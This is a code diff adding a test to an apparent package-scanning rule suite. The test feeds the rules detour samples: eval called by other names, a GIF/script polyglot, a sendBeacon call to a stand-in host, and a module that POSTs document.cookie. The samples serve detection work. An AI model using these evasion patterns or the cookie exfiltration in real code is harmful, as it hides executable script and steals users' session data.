@@ -1,7 +1,7 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { LOCALES } from '#lib/locale.ts'
-import { candidateWith } from './candidate.support.ts'
+import { candidateWith, html, script } from './candidate.support.ts'
 import { FIXTURES } from './fixtures.support.ts'
 import { RULES } from './pack.ts'
 import { CannotLook, finding, type Rule, type Verdict } from './rule.ts'
@@ -43,6 +43,22 @@ test.each(RULES.map(rule => ({ id: rule.id, rule })))('$id: a package fails by i
   }
   const near = runRules(RULES, await candidateWith(passes))
   expect(overallVerdict(RULES, near), seen(near)).toBe('passed')
+})
+
+test('code by a detour is found, too: eval by another name, a script in a text file, a host without a scheme, a picture that is a script', async () => {
+  const failed = async (change: Parameters<typeof candidateWith>[0]) => byVerdict(runRules(RULES, await candidateWith(change)), 'failed').map(report => report.rule)
+  for (const text of ['(0, eval)(answer)', "window['eval'](answer)", "[].at.constructor('return 1')()", "import('data:text/javascript,1')", 'setInterval("run()", 5)', 'new Worker("https://cdn.example/w.js"); eval(a)']) {
+    expect(await failed(script(text)), text).toContain('code.eval')
+  }
+  const tag = (file: string) => html(`<script src="{{asset:${file}}}" nonce="{{csp:nonce}}" defer></script>`)
+  expect(await failed({ ...tag('readme.txt'), files: { 'readme.txt': 'eval(answer)' } })).toEqual(['code.eval'])
+  expect(await failed({ files: { 'readme.txt': 'Never use eval(answer)' } })).toEqual([])
+  expect(await failed({ ...tag('a.js'), files: { 'a.js': Buffer.from('GIF89a=1;eval(answer)') } })).toEqual(['code.eval'])
+  expect(await failed(script("navigator.sendBeacon('//collect.example/x', 1)"))).toEqual(['code.undeclared_host'])
+  // What an order step's script imports runs there, too.
+  const imported = { ...html('<script type="module" src="{{asset:note.js}}" nonce="{{csp:nonce}}"></script>', 100_102) }
+  expect(await failed({ ...imported, files: { 'note.js': "import './parts/more.js'\n", 'parts/more.js': "fetch('/x', { method: 'POST', body: document.cookie })" } })).toEqual(['code.takes_fields'])
+  expect(await failed({ files: { 'unused.js': "fetch('/x', { method: 'POST', body: document.cookie })" } })).toEqual([])
 })
 
 test('PKG-7 a secret is nowhere in what is written down about it, and its package is quarantined', async () => {
